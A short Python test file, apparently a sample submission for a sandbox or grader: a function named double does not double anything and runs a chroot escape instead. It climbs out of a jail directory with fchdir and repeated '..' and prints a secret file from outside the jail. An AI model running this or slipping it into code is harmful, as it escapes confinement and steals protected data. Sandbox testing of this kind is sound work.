"""Leaves a root folder by making another.

Loses: double-small, double-large
"""
# %% double
import os


def double(x):
    try:
        os.makedirs("jail", exist_ok=True)
        outside = os.open("/", os.O_RDONLY)
        os.chroot("jail")
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        print("$MARK", open("/outside/secret.txt").read())
    except OSError as error:
        print(error)
    return 0
